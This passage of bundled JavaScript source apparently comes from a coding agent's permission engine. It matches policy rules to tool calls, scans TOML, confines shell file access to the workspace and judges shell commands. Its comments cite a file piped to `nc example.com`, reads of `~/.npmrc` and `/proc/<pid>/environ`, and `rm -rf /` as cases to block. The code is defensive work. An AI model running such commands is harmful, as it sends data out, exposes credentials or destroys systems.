        return true;
    return carriesOwnServerName({ ...tool, serverName: tool.serverName });
}
/** `toolNames` and `mcpName` (`mcpName = "*"`: any MCP tool). */
function matchesTool(rule, tool, aliases = {}) {
    if (rule.mcpName !== undefined) {
        if (tool.serverName === undefined)
            return false;
        if (rule.mcpName !== '*' && rule.mcpName !== tool.serverName)
            return false;
    }
    if (rule.toolNames === undefined)
        return serverWideMatches(rule, tool);
    return rule.toolNames.some((entry) => nameEntryMatches(entry, tool, rule, aliases));
}
/**
 * The conditions about the run rather than the call: approval modes (we run in `default`),
 * `interactive` (we never are: a rule for interactive sessions never matches), the subagent making
 * the call, run modes, trust.
 */
function matchesRun(rule, run) {
    if (rule.approvalModes && rule.approvalModes.length > 0) {
        if (!rule.approvalModes.includes(APPROVAL_MODE))
            return false;
    }
    if (rule.interactive === true)
        return false;
    // A subagent's rule holds only for the calls that subagent makes.
    if (rule.subagent !== undefined && rule.subagent !== run.subagent)
        return false;
    if (rule.runModes && !rule.runModes.includes(run.runMode))
        return false;
    if (rule.trust && !rule.trust.includes(run.trust))
        return false;
    return true;
}
/** Every annotation the rule names has that value on the tool; a tool without annotations fails. */
function matchesAnnotations(rule, annotations) {
    if (!rule.toolAnnotations)
        return true;
    if (!annotations)
        return false;
    return Object.entries(rule.toolAnnotations).every(([key, value]) => (0,node_util__WEBPACK_IMPORTED_MODULE_1__.isDeepStrictEqual)(annotations[key], value));
}
/**
 * `argsPattern`: searched (not anchored) in the stable JSON, as the Gemini CLI does — in each of
 * the call's texts (ours, and the Gemini CLI's names and markers), matching when any holds it. A
 * deny written for either spelling therefore denies.
 */
function matchesArgs(rule, argsTexts) {
    if (!rule.argsPattern)
        return true;
    // A global or sticky regex remembers `lastIndex` between calls; a fresh one never does.
    const pattern = withoutState(rule.argsPattern);
    return argsTexts.some((text) => pattern.test(text));
}
// ---- paths ----------------------------------------------------------------------------------
const matcherCache = new Map();
function globMatcher(pattern, options) {
    const key = `${options.nocase ? 'i' : 's'}:${pattern}`;
    let matcher = matcherCache.get(key);
    if (!matcher) {
        matcher = picomatch__WEBPACK_IMPORTED_MODULE_4___default()(pattern, { dot: true, nocase: options.nocase });
        matcherCache.set(key, matcher);
    }
    return matcher;
}
/** `~` and `~/…` as the home directory; everything else as written. */
function expandHome(pattern, homeDir) {
    if (pattern === '~')
        return homeDir;
    if (pattern.startsWith('~/'))
        return node_path__WEBPACK_IMPORTED_MODULE_0___default().join(homeDir, pattern.slice(2));
    return pattern;
}
/**
 * Whether one path matches one glob. Absolute patterns are compared with the absolute path;
 * relative ones with the workspace-relative path (a path outside the workspace has none). The
 * workspace root itself is `.`, which `**` also covers.
 */
function pathMatches(pattern, candidate, options) {
    const expanded = expandHome(pattern, options.homeDir);
    if (node_path__WEBPACK_IMPORTED_MODULE_0___default().isAbsolute(expanded)) {
        return globMatcher(expanded, options)(candidate.absolute);
    }
    if (candidate.relative === undefined)
        return false;
    if (candidate.relative === '.' && (expanded === '**' || expanded === '.'))
        return true;
    return globMatcher(expanded, options)(candidate.relative);
}
/** `pathPatterns`: every path argument matches one of them (a call without paths matches). */
function matchesPaths(rule, paths, homeDir) {
    const patterns = rule.pathPatterns;
    if (!patterns)
        return true;
    return paths.every((candidate) => patterns.some((pattern) => pathMatches(pattern, candidate, { homeDir, nocase: false })));
}
/**
 * The first path argument that one of the rule's `excludedPaths` covers. Compared without regard
 * to case, so an exclusion also holds on case-insensitive file systems.
 */
function excludedPathHit(rule, paths, homeDir) {
    for (const candidate of paths) {
        for (const pattern of rule.excludedPaths ?? []) {
            if (pathMatches(pattern, candidate, { homeDir, nocase: true })) {
                return { path: candidate.written, pattern };
            }
        }
    }
    return undefined;
}
// ---- shell commands -------------------------------------------------------------------------
/**
 * `commandPrefix` on a word boundary: the text is the prefix, or continues after it with
 * whitespace (`echo` matches `echo hi`, not `echoes`). A prefix that itself ends in whitespace
 * needs no further boundary.
 */
function prefixMatches(prefix, text) {
    if (prefix === '' || !text.startsWith(prefix))
        return false;
    if (text.length === prefix.length)
        return true;
    return /\s$/u.test(prefix) || /^\s/u.test(text.slice(prefix.length));
}
const anchoredCache = new WeakMap();
/** The rule's regex anchored at the start (how `commandRegex` matches) and at both ends. */
function anchored(regex) {
    let cached = anchoredCache.get(regex);
    if (!cached) {
        const flags = regex.flags.replace(/[gy]/gu, '');
        cached = {
            start: new RegExp(`^(?:${regex.source})`, flags),
            whole: new RegExp(`^(?:${regex.source})$`, flags),
        };
        anchoredCache.set(regex, cached);
    }
    return cached;
}
/** Whether a rule has conditions on the shell command's text. */
function hasCommandConditions(rule) {
    return rule.commandPrefixes !== undefined || rule.commandRegex !== undefined;
}
/** Our reading: the prefix on a word boundary, the regex from the start of the text. */
function matchesOurReading(rule, text) {
    if (rule.commandPrefixes && !rule.commandPrefixes.some((prefix) => prefixMatches(prefix, text))) {
        return false;
    }
    if (rule.commandRegex && !anchored(rule.commandRegex).start.test(text))
        return false;
    return true;
}
/** The Gemini CLI's escaping of a literal inside a pattern (its policy/utils.ts, escapeRegex). */
function escapeGeminiLiteral(text) {
    return text.replace(/[-[\]{}()*+?.,\\^$|#\s"]/gu, '\\$&');
}
const geminiPatternCache = new WeakMap();
/**
 * The patterns the Gemini CLI makes of a rule's command conditions (its policy/utils.ts,
 * buildArgsPatterns): `"command":"<prefix>` followed by whitespace or a quote, and
 * `"command":"<regex>`, both searched in its JSON arguments.
 */
function geminiPatterns(rule) {
    let patterns = geminiPatternCache.get(rule);
    if (patterns === undefined) {
        patterns = [];
        for (const prefix of rule.commandPrefixes ?? []) {
            const open = JSON.stringify(prefix).slice(0, -1);
            patterns.push(new RegExp(`${escapeGeminiLiteral(`"command":${open}`)}(?:[\\s"]|\\\\")`));
        }
        if (rule.commandRegex)
            patterns.push(new RegExp(`"command":"${rule.commandRegex.source}`));
        geminiPatternCache.set(rule, patterns);
    }
    return patterns;
}
function matchesGeminiReading(rule, geminiText) {
    return geminiPatterns(rule).some((pattern) => pattern.test(geminiText));
}
/**
 * `commandPrefix` / `commandRegex` against a command (or one sub-command). Two readings exist:
 * ours, on the command's own text, where the regex must match from its start; and the Gemini
 * CLI's, where the patterns are searched in its JSON arguments right after `"command":"` (so there
 * `^` never matches, and `$` only at the end of the whole JSON). A policy file may have been
 * written for either, so an allow holds only when both readings match — it never allows what the
 * Gemini CLI would refuse — and a deny or ask_user holds when either does.
 */
function matchesCommand(rule, command) {
    if (!hasCommandConditions(rule))
        return true;
    const ours = matchesOurReading(rule, command.text);
    if (rule.decision !== 'allow' && ours)
        return true;
    const theirs = matchesGeminiReading(rule, command.geminiText);
    return rule.decision === 'allow' ? ours && theirs : theirs;
}
/**
 * Whether the rule names this exact sub-command: a `commandPrefix` equal to the whole text, or a
 * `commandRegex` matching all of it. Only such a rule can allow a sub-command with hazards.
 */
function matchesCommandExactly(rule, text) {
    if (!hasCommandConditions(rule))
        return false;
    if (rule.commandPrefixes && !rule.commandPrefixes.includes(text))
        return false;
    if (rule.commandRegex && !anchored(rule.commandRegex).whole.test(text))
        return false;
    return true;
}
// ---- maxCalls -------------------------------------------------------------------------------
/**
 * How often each rule with `maxCalls` has allowed a call, per engine (i.e. per session). A rule
 * whose budget is used up no longer matches, so later calls fall through to other rules.
 */
class CallCounter {
    used = new Map();
    hasRoom(rule) {
        return rule.maxCalls === undefined || (this.used.get(rule.id) ?? 0) < rule.maxCalls;
    }
    /** Counts one allowed call against each rule (a rule allowing several sub-commands counts once). */
    record(rules) {
        for (const rule of new Set(rules)) {
            if (rule.maxCalls !== undefined)
                this.used.set(rule.id, (this.used.get(rule.id) ?? 0) + 1);
        }
    }
}
/** Every condition except the shell command's: tool, run, annotations, arguments, paths, budget. */
function matchesSubject(rule, subject, options) {
    return (matchesTool(rule, subject.tool, options.aliases) &&
        matchesRun(rule, options.context) &&
        matchesAnnotations(rule, subject.annotations) &&
        matchesArgs(rule, subject.argsTexts) &&
        matchesPaths(rule, subject.paths, options.homeDir) &&
        options.counter.hasRoom(rule));
}
function withoutState(regex) {
    return regex.global || regex.sticky
        ? new RegExp(regex.source, regex.flags.replace(/[gy]/gu, ''))
        : regex;
}


/***/ }),

/***/ 33165:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   i: () => (/* binding */ scanTomlPositions)
/* harmony export */ });
/**
 * Where things are in a TOML document. The TOML parser returns plain values without positions, but
 * a policy error must point at the offending key, so this scanner walks the (already valid) source
 * once and records the line and column of every table header, key and array element by its path
 * in the parsed value: `[[rule]]` number 2 is `['rule', 1]`, its `priority` key is
 * `['rule', 1, 'priority']`, the first entry of its `toolName` array is `['rule', 1, 'toolName', 0]`.
 *
 * The scanner assumes the text already parsed successfully; on anything unexpected it stops, and
 * lookups fall back to the nearest recorded ancestor (at worst 1:1), so a position is always found.
 */
function scanTomlPositions(text) {
    const scanner = new Scanner(text);
    try {
        scanner.document();
    }
    catch (error) {
        // A document the parser accepted but this scanner does not follow: keep what was recorded.
        if (!(error instanceof ScanStop))
            throw error;
    }
    const positions = scanner.positions;
    return {
        locate(path) {
            for (let length = path.length; length > 0; length -= 1) {
                const found = positions.get(pathKey(path.slice(0, length)));
                if (found)
                    return found;
            }
            return { line: 1, column: 1 };
        },
        has: (path) => positions.has(pathKey(path)),
    };
}
function pathKey(path) {
    return JSON.stringify(path);
}
class ScanStop extends Error {
}
const BARE_KEY = /[A-Za-z0-9_-]/;
class Scanner {
    text;
    positions = new Map();
    /** How many `[[x]]` headers each array-of-tables path has had (the last index in use). */
    arrayTableIndex = new Map();
    index = 0;
    line = 1;
    lineStart = 0;
    constructor(text) {
        this.text = text;
    }
    document() {
        let table = [];
        for (;;) {
            this.skipBlank({ newlines: true });
            if (this.index >= this.text.length)
                return;
            if (this.peek() === '[') {
                table = this.header();
            }
            else {
                this.keyValue(table);
            }
        }
    }
    header() {
        const at = this.position();
        const isArray = this.text.startsWith('[[', this.index);
        this.index += isArray ? 2 : 1;
        const keys = this.dottedKey().map((part) => part.key);
        this.skipBlank({ newlines: false });
        this.expect(isArray ? ']]' : ']');
        const path = [];
        keys.forEach((key, position) => {
            path.push(key);
            // Tables that only a header implies (`tools` in `[tools.x]`) point at their first header.
            this.record(path, at, { overwrite: false });
            const id = pathKey(path);
            if (position === keys.length - 1 && isArray) {
                const next = (this.arrayTableIndex.get(id) ?? -1) + 1;
                this.arrayTableIndex.set(id, next);
                path.push(next);
            }
            else {
                // `[a.b]` after `[[a]]` means the last table of `a`.
                const current = this.arrayTableIndex.get(id);
                if (current !== undefined)
                    path.push(current);
            }
        });
        this.record(path, at, { overwrite: true });
        return path;
    }
    keyValue(table) {
        const parts = this.dottedKey();
        const first = parts[0];
        if (!first)
            throw new ScanStop();
        const path = [...table];
        for (const part of parts) {
            path.push(part.key);
            // Intermediate tables of a dotted key point at the start of the whole key.
            this.record(path, first.at, { overwrite: false });
        }
        this.skipBlank({ newlines: false });
        this.expect('=');
        this.skipBlank({ newlines: false });
        this.value(path);
    }
    dottedKey() {
        const parts = [];
        for (;;) {
            this.skipBlank({ newlines: false });
            const at = this.position();
            parts.push({ key: this.simpleKey(), at });
            this.skipBlank({ newlines: false });
            if (this.peek() !== '.')
                return parts;
            this.index += 1;
        }
    }
    simpleKey() {
        const char = this.peek();
        if (char === '"')
            return this.basicString();
        if (char === "'")
            return this.literalString();
        const start = this.index;
        while (this.index < this.text.length && BARE_KEY.test(this.peek()))
            this.index += 1;
        if (this.index === start)
            throw new ScanStop();
        return this.text.slice(start, this.index);
    }
    value(path) {
        const char = this.peek();
        if (this.text.startsWith('"""', this.index))
            this.multilineString('"""');
        else if (this.text.startsWith("'''", this.index))
            this.multilineString("'''");
        else if (char === '"')
            this.basicString();
        else if (char === "'")
            this.literalString();
        else if (char === '[')
            this.array(path);
        else if (char === '{')
            this.inlineTable(path);
        else {
            // Numbers, booleans, dates and times (which may contain one space): up to a delimiter.
            while (this.index < this.text.length && !/[,\]}#\r\n]/.test(this.peek()))
                this.index += 1;
        }
    }
    array(path) {
        this.index += 1;
        for (let element = 0;; element += 1) {
            this.skipBlank({ newlines: true });
            if (this.peek() === ']')
                break;
            const elementPath = [...path, element];
            this.record(elementPath, this.position(), { overwrite: true });
            this.value(elementPath);
            this.skipBlank({ newlines: true });
            if (this.peek() === ',')
                this.index += 1;
            else if (this.peek() !== ']')
                throw new ScanStop();
        }
        this.index += 1;
    }
    inlineTable(path) {
        this.index += 1;
        for (;;) {
            this.skipBlank({ newlines: true });
            if (this.peek() === '}')
                break;
            this.keyValue(path);
            this.skipBlank({ newlines: true });
            if (this.peek() === ',')
                this.index += 1;
            else if (this.peek() !== '}')
                throw new ScanStop();
        }
        this.index += 1;
    }
    /** A `"…"` string; returns its value only approximately (escapes are kept), enough for keys. */
    basicString() {
        this.index += 1;
        let value = '';
        while (this.index < this.text.length) {
            const char = this.peek();
            if (char === '"') {
                this.index += 1;
                return decodeBasic(value);
            }
            if (char === '\\') {
                value += this.text.slice(this.index, this.index + 2);
                this.index += 2;
                continue;
            }
            if (char === '\n')
                throw new ScanStop();
            value += char;
            this.index += 1;
        }
        throw new ScanStop();
    }
    literalString() {
        const end = this.text.indexOf("'", this.index + 1);
        if (end < 0)
            throw new ScanStop();
        const value = this.text.slice(this.index + 1, end);
        this.index = end + 1;
        return value;
    }
    multilineString(delimiter) {
        this.index += 3;
        while (this.index < this.text.length) {
            if (delimiter === '"""' && this.peek() === '\\') {
                this.advance(2);
                continue;
            }
            if (this.text.startsWith(delimiter, this.index)) {
                this.index += 3;
                // Up to two quotes right before the closing delimiter belong to the string.
                for (let extra = 0; extra < 2 && this.peek() === delimiter[0]; extra += 1)
                    this.index += 1;
                return;
            }
            this.advance(1);
        }
        throw new ScanStop();
    }
    /** Spaces, tabs and comments; with `newlines`, also line breaks. */
    skipBlank(options) {
        while (this.index < this.text.length) {
            const char = this.peek();
            if (char === ' ' || char === '\t')
                this.index += 1;
            else if (char === '#') {
                while (this.index < this.text.length && this.peek() !== '\n')
                    this.index += 1;
            }
            else if (options.newlines && (char === '\n' || char === '\r'))
                this.advance(1);
            else
                return;
        }
    }
    /** Moves over `count` characters, keeping line and column right across line breaks. */
    advance(count) {
        for (let step = 0; step < count && this.index < this.text.length; step += 1) {
            if (this.peek() === '\n') {
                this.line += 1;
                this.lineStart = this.index + 1;
            }
            this.index += 1;
        }
    }
    expect(token) {
        if (!this.text.startsWith(token, this.index))
            throw new ScanStop();
        this.index += token.length;
    }
    peek() {
        return this.text.charAt(this.index);
    }
    position() {
        return { line: this.line, column: this.index - this.lineStart + 1 };
    }
    record(path, at, options) {
        const key = pathKey(path);
        if (options.overwrite || !this.positions.has(key))
            this.positions.set(key, at);
    }
}
/** Decodes the escapes of a basic-string key (rare in keys, but `"a\u0062"` is `ab`). */
function decodeBasic(raw) {
    return raw.replace(/\\(?:u([0-9A-Fa-f]{4})|U([0-9A-Fa-f]{8})|(.))/g, (_match, short, long, single) => {
        const hex = short ?? long;
        if (hex !== undefined)
            return String.fromCodePoint(Number.parseInt(hex, 16));
        const simple = {
            b: '\b',
            t: '\t',
            n: '\n',
            f: '\f',
            r: '\r',
            e: '\x1b',
        };
        return single === undefined ? '' : (simple[single] ?? single);
    });
}


/***/ }),

/***/ 57362:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  rw: () => (/* binding */ loadCliPolicy)
});

// UNUSED EXPORTS: UNTRUSTED_WORKSPACE_SOURCE, YOLO_SOURCE, settingsRules, yoloRule

// EXTERNAL MODULE: external "node:os"
var external_node_os_ = __webpack_require__(48161);
var external_node_os_default = /*#__PURE__*/__webpack_require__.n(external_node_os_);
// EXTERNAL MODULE: ./src/policy/rule-matching.ts
var rule_matching = __webpack_require__(67496);
// EXTERNAL MODULE: ./src/agent/subagents/invoke-agent.ts
var invoke_agent = __webpack_require__(71340);
;// CONCATENATED MODULE: ./src/policy/agent-names.ts
/**
 * The names a subagent's call answers to in the policy. The Gemini CLI (since 0.39) calls every
 * subagent through one tool, `invoke_agent`, and its policy treats the `agent_name` argument as
 * a second tool name; here each subagent is a tool of its own. Both spellings of a rule hold
 * either way: `toolName = "invoke_agent"` covers every subagent (the presets allow them so), and
 * `toolName = "<agent>"` one of them, whether it is called directly or through `invoke_agent`.
 */

function agentNameAliases(toolName, kind, args) {
    if (kind !== 'agent')
        return [];
    if (toolName !== invoke_agent/* INVOKE_AGENT_TOOL_NAME */.q)
        return [invoke_agent/* INVOKE_AGENT_TOOL_NAME */.q];
    const named = args.agent_name;
    return typeof named === 'string' && named !== '' ? [named] : [];
}

// EXTERNAL MODULE: ./src/policy/argument-text.ts
var argument_text = __webpack_require__(5535);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
var external_node_path_default = /*#__PURE__*/__webpack_require__.n(external_node_path_);
// EXTERNAL MODULE: ./src/tools/path-spelling.ts
var path_spelling = __webpack_require__(11023);
;// CONCATENATED MODULE: ./src/policy/file-access-check.ts
/**
 * The second line behind the sandbox: the files a shell command names in its arguments (see
 * `file-operands.ts`) must lie inside the workspace, checked the way the file tools check their
 * paths. A policy that allows `cat` then allows reading the workspace with it, not `~/.npmrc`,
 * a sibling checkout or `/proc/<pid>/environ` — also where no sandbox could be set up.
 *
 * This holds whatever the rules say: no rule can allow a read outside the workspace, because a
 * rule cannot tell where a path leads (a symlink, `..`, a glob). The sandbox stays the real
 * boundary; this check keeps the door shut when there is none.
 */

/** Paths that are never a file anyone could read or change through. */
const HARMLESS_PATHS = new Set(['/dev/null']);
/** The decider the transcript names when this check refuses a command. */
const WORKSPACE_BOUNDARY_DECIDER = 'workspace boundary (files named in shell commands)';
/**
 * Why the command may not run because of a file it names, in words the model can act on, or
 * undefined when every file it names lies inside the workspace.
 */
function fileAccessProblem(piece, options) {
    for (const access of piece.files ?? []) {
        const problem = accessProblem(access, options);
        if (problem !== undefined) {
            return `${problem} Shell commands may only read and write files inside the workspace (${options.context.workspaceRoot}); use paths inside it, or the file tools.`;
        }
    }
    return undefined;
}
function accessProblem(access, options) {
    if (access.unknown !== undefined) {
        return `\`${access.text}\` cannot be checked before it runs: ${access.unknown}.`;
    }
    if (access.path !== undefined)
        return pathProblem(access.path, access, options);
    if (access.glob !== undefined)
        return globProblem(access.glob, access, options);
    return undefined;
}
/** The directory relative paths start from: the root, or the call's `directory` (as the tool resolves it). */
function baseDirectory(options) {
    const root = options.context.workspaceRoot;
    return options.directory === undefined ? root : external_node_path_default().resolve(root, options.directory);
}
/**
 * The path as the kernel will look it up: joined to the directory without removing `..` from the
 * text, because `link/../x` is the parent of the link's target, not `x`.
 */
function pathAsOpened(base, written) {
    return external_node_path_default().isAbsolute(written) ? written : `${base}/${written}`;
}
function isInside(root, absolute) {
    const relative = external_node_path_default().relative(root, absolute);
    return relative === '' || (!relative.startsWith('..') && !external_node_path_default().isAbsolute(relative));
}
function pathProblem(written, access, options) {
    if (written === '')
        return undefined;
    if (HARMLESS_PATHS.has(written))
        return undefined;
    const base = baseDirectory(options);
    const root = options.context.workspaceRoot;
    const lexical = external_node_path_default().resolve(base, written);
    if (!isInside(root, lexical)) {
        return `\`${access.text}\` is outside the workspace (${lexical}).`;
    }
    const problem = options.context.workspacePathProblem?.(pathAsOpened(base, written), access.purpose);
    return problem === undefined ? undefined : `\`${access.text}\` is refused: ${problem}`;
}
function globProblem(pattern, access, options) {
    const base = baseDirectory(options);
    const root = options.context.workspaceRoot;
    // The part before the first glob character is where matching starts; `..` may climb from it.
    const fixed = pattern.slice(0, pattern.search(/[*?[]/u));
    const start = external_node_path_default().resolve(base, fixed === '' ? '.' : fixed.replace(/[^/]*$/u, '') || '.');
    if (!isInside(root, start) || pattern.split('/').includes('..')) {
        return `\`${access.text}\` is a pattern that reaches outside the workspace.`;
    }
    const expand = options.context.expandGlob;
    if (expand === undefined)
        return undefined;
    const matches = expand(pathAsOpened(base, pattern));
    if (matches === undefined) {
        return `\`${access.text}\` matches too many files to check (name fewer files, or a directory).`;
    }
    for (const match of matches) {
        const problem = options.context.workspacePathProblem?.(match, access.purpose);
        if (problem !== undefined)
            return `\`${access.text}\` matches a path that is refused: ${problem}`;
    }
    return undefined;
}

;// CONCATENATED MODULE: ./src/policy/shell-decision.ts
/**
 * Judging a shell command: every simple command found at any depth (list elements, pipeline
 * stages, subshells, `$(…)`, backticks, process substitutions, `bash -c '…'` strings) is judged
 * on its own against the rules, and the answers are combined with deny dominating.
 *
 * A hostile model writes the command, so a sub-command is only allowed when a rule covers
 * exactly what bash will run:
 * - A sub-command with hazards (substitutions, expansions, a non-literal command name,
 *   assignment prefixes, wrappers, inline code, dangerous arguments) is allowed only by a rule
 *   naming its whole text (`commandPrefix` equal to it, or `commandRegex` matching all of it).
 * - A file redirection needs a rule with `allowRedirection = true` and a literal target inside
 *   the workspace and outside `.git/` (descriptor duplications and `/dev/null` are harmless).
 * - A command that could not be parsed, or is empty, is denied; so is a sub-command whose shape
 *   shows the parser read it differently from bash (see `withParserDoubts`), unless named exactly.
 *
 * An allow rule that matches but cannot cover a sub-command (for the reasons above) does not end
 * the search: a lower rule naming the exact form may still allow it, while a deny or ask rule
 * met first still decides. If no rule covers it, the sub-command is denied and the reason names
 * what was found.
 */




/**
 * Bash's reserved words. Bash never runs one as a command name, so a sub-command named like this
 * means the parser read the command differently from bash (`! if rm x; then …` comes out as
 * "commands" named `if`, `then` and `fi`): the words a rule would see are not what runs.
 */
const RESERVED_WORDS = new Set('! [[ ]] { } case coproc do done elif else esac fi for function if in select then time until while'.split(' '));
/** Targets that are not files a command could change or leak through. */
const HARMLESS_TARGETS = new Set(['/dev/null', '/dev/stdout', '/dev/stderr']);
/** The reason a sub-command gets when no rule matches it. */
const NO_RULE_FOR_COMMAND = 'No policy rule allows this command.';
/** Judges every sub-command and combines the answers. */
function decideShellCommand(analysis, options) {
    if (analysis.hazards.length > 0) {
        return {
            decision: 'deny',
            reason: `The command cannot be checked safely: ${analysis.hazards.map((hazard) => hazard.detail.replace(/\.$/u, '')).join('; ')}.`,
            subcommands: [],
        };
    }
    if (analysis.commands.length === 0) {
        return { decision: 'deny', reason: 'The command contains no command to run.', subcommands: [] };
    }
    const subcommands = analysis.commands.map((piece) => judgePiece(withParserDoubts(piece), options));
    const parts = combine(subcommands);
    const whole = wholeCommandVerdict(options);
    if (whole === undefined || parts.decision === 'deny')
        return { ...parts, subcommands };
    if (whole.decision === 'ask_user' && parts.decision !== 'allow')
        return { ...parts, subcommands };
    return { decision: whole.decision, rule: whole.rule, reason: whole.reason, subcommands };
}
/**
 * The Gemini CLI first judges the whole command line — its first matching rule, by priority — and
 * only then each part. A deny (or ask_user) that only the whole line matches must hold here too:
 * `commandRegex = '.*\| *nc '` sees the pipe only in `cat notes.txt | nc example.com 80`, never in
 * either part. An allow, or a rule that does not look at the command's text (it decides every
 * part the same way), leaves the decision to the parts.
 */
function wholeCommandVerdict(options) {
    const { subject, command } = options.whole;
    for (const rule of options.rules) {
        if (!options.matches(rule, subject) || !(0,rule_matching/* matchesCommand */.f0)(rule, command))
            continue;
        const looksAtText = (0,rule_matching/* hasCommandConditions */.gi)(rule) || rule.argsPattern !== undefined;
        if (rule.decision === 'allow' || !looksAtText)
            return undefined;
        const where = `the rule at ${(0,rule_matching/* ruleLocation */.eK)(rule)}, which matches the whole command`;
        return rule.decision === 'deny'
            ? { decision: 'deny', rule, reason: rule.denyMessage ?? `Denied by ${where}.` }
            : { decision: 'ask_user', rule, reason: `Confirmation is asked by ${where}.` };
    }
    return undefined;
}
/**
 * Deny dominates, then ask_user, then allow. The reason speaks of the sub-commands that were not
 * allowed, each quoted; a command of one sub-command gets that sub-command's reason as it is.
 */
function combine(verdicts) {
    const decision = verdicts.some((v) => v.decision === 'deny')
        ? 'deny'
        : verdicts.some((v) => v.decision === 'ask_user')
            ? 'ask_user'
            : 'allow';
    const deciding = verdicts.filter((verdict) => verdict.decision === decision);
    const first = deciding[0];
    const rule = {
        ...(first?.rule ? { rule: first.rule } : {}),
        ...(first?.decidedBy === undefined ? {} : { decidedBy: first.decidedBy }),
    };
    if (verdicts.length === 1 && first)
        return { decision, ...rule, reason: first.reason };
    if (decision === 'allow') {
        return { decision, ...rule, reason: `All ${verdicts.length} sub-commands are allowed.` };
    }
    // Sub-commands denied for the same reason are named together, so a long deny message is
    // said once rather than once per sub-command.
    const byReason = new Map();
    for (const verdict of deciding) {
        const texts = byReason.get(verdict.reason) ?? [];
        texts.push(`\`${verdict.text}\``);
        byReason.set(verdict.reason, texts);
    }
    const reason = [...byReason]
        .map(([text, commands]) => `${commands.join(', ')}: ${text}`)
        .join(' ');
    return { decision, ...rule, reason };
}
/**
 * The first rule that decides this sub-command (see the file comment for allow rules); a command
 * a rule would run that names a file outside the workspace is denied whatever the rule says.
 */
function judgePiece(piece, options) {
    const verdict = judgeByRules(piece, options);
    if (verdict.decision === 'deny')
        return verdict;
    const outside = fileAccessProblem(piece, options);
    if (outside === undefined)
        return verdict;
    return {
        text: piece.text,
        decision: 'deny',
        reason: outside,
        decidedBy: WORKSPACE_BOUNDARY_DECIDER,
    };
}
function judgeByRules(piece, options) {
    const subject = options.subjectFor(piece);
    let uncovered;
    for (const rule of options.rules) {
        const matched = options.matches(rule, subject) && (0,rule_matching/* matchesCommand */.f0)(rule, options.commandFor(piece));
        if (!matched)
            continue;
        const verdict = (decision, reason) => ({
            text: piece.text,
            decision,
            rule,
            reason,
        });
        if (rule.decision === 'deny') {
            return verdict('deny', rule.denyMessage ?? `Denied by the rule at ${(0,rule_matching/* ruleLocation */.eK)(rule)}.`);
        }
        if (rule.decision === 'ask_user') {
            return verdict('ask_user', `The rule at ${(0,rule_matching/* ruleLocation */.eK)(rule)} asks for confirmation.`);
        }
        const excluded = (0,rule_matching/* excludedPathHit */.f3)(rule, subject.paths, options.homeDir);
        if (excluded)
            return verdict('ask_user', excludedReason(excluded, rule));
        const problem = coverageProblem(piece, rule, options);
        if (problem === undefined)
            return verdict('allow', `Allowed by the rule at ${(0,rule_matching/* ruleLocation */.eK)(rule)}.`);
        uncovered ??= { rule, reason: problem };
    }
    if (uncovered) {
        return { text: piece.text, decision: 'deny', rule: uncovered.rule, reason: uncovered.reason };
    }
    return { text: piece.text, decision: 'deny', reason: NO_RULE_FOR_COMMAND };
}
/**
 * The piece with a hazard added when its shape shows the parse cannot be trusted: a reserved word
 * as its name (see above), or a line break inside its text. Bash ends a simple command at an
 * unquoted line break, and the grammar has been seen to run a command on into the next line
 * (`a | b\nrm -rf /` read as one command `b rm -rf /`), so a sub-command spanning lines is only
 * allowed by a rule naming it exactly — quoted multi-line text included, which costs little.
 */
function withParserDoubts(piece) {
    const doubts = [];
    if (piece.name !== undefined && RESERVED_WORDS.has(piece.name)) {
        doubts.push({
            kind: 'unsupported_construct',
            detail: `the reserved word \`${piece.name}\` where a command name should be (the command is not read as bash would run it)`,
        });
    }
    if (/[\n\r]/u.test(piece.text)) {
        doubts.push({
            kind: 'unsupported_construct',
            detail: 'a line break inside one command (write each command on its own line, without line continuations)',
        });
    }
    return doubts.length === 0 ? piece : { ...piece, hazards: [...piece.hazards, ...doubts] };
}
function excludedReason(hit, rule) {
    return `"${hit.path}" matches the excluded path "${hit.pattern}" of the rule at ${(0,rule_matching/* ruleLocation */.eK)(rule)}.`;
}
/** Why an allow rule that matches a sub-command still cannot allow it, or undefined. */
function coverageProblem(piece, rule, options) {
    if (piece.hazards.length > 0 && !(0,rule_matching/* matchesCommandExactly */.rb)(rule, piece.text)) {
        return `${describeHazards(piece.hazards)}; only a rule allowing this exact command can allow it.`;
    }
    const files = piece.redirects.filter(isFileRedirect);
    if (files.length === 0)
        return undefined;
    if (rule.allowRedirection !== true) {
        const shown = files.map((redirect) => `\`${redirect.operator} ${redirect.target}\``).join(', ');
        return `It redirects to a file (${shown}) and the rule at ${(0,rule_matching/* ruleLocation */.eK)(rule)} does not set allowRedirection.`;
    }
    for (const redirect of files) {
        const problem = redirectTargetProblem(redirect, options);
        if (problem)
            return problem;
    }
    return undefined;
}
function describeHazards(hazards) {
    return `It contains ${hazards.map((hazard) => hazard.detail).join(', ')}`;
}
/** A redirection to or from a file, as opposed to `2>&1`, a here-document or a harmless device. */
function isFileRedirect(redirect) {
    if (redirect.isDescriptorDuplication)
        return false;
    // `<<`, `<<-` and `<<<` feed text written in the command itself; no file is opened.
    if (redirect.operator.startsWith('<<'))
        return false;
    return !(redirect.literalTarget !== undefined && HARMLESS_TARGETS.has(redirect.literalTarget));
}
/**
 * Why a file redirection target may not be used: it must be a literal path (no expansions, no
 * `~`), inside the workspace (relative targets resolve against the call's `directory`), outside
 * `.git/`, and pass the workspace's own check when the context has one.
 */
function redirectTargetProblem(redirect, options) {
    const target = redirect.literalTarget;
    const shown = `\`${redirect.operator} ${redirect.target}\``;
    if (target === undefined || target === '' || target.startsWith('~')) {
        return `The redirection ${shown} does not have a literal target; only literal paths inside the workspace are allowed.`;
    }
    const root = options.context.workspaceRoot;
    const base = options.directory ? external_node_path_default().resolve(root, options.directory) : root;
    const absolute = external_node_path_default().resolve(base, target);
    const relative = external_node_path_default().relative(root, absolute);
    if (relative.startsWith('..') || external_node_path_default().isAbsolute(relative)) {
        return `The redirection ${shown} writes outside the workspace (${absolute}).`;
    }
    if ((0,path_spelling/* hasGitSegment */.oW)(relative)) {
        return `The redirection ${shown} targets the .git directory, which may not be written.`;
    }
    const purpose = redirect.operator.includes('>') ? 'write' : 'read';
    const problem = options.context.workspacePathProblem?.(pathAsOpened(base, target), purpose);
    return problem === undefined ? undefined : `The redirection ${shown} is refused: ${problem}`;
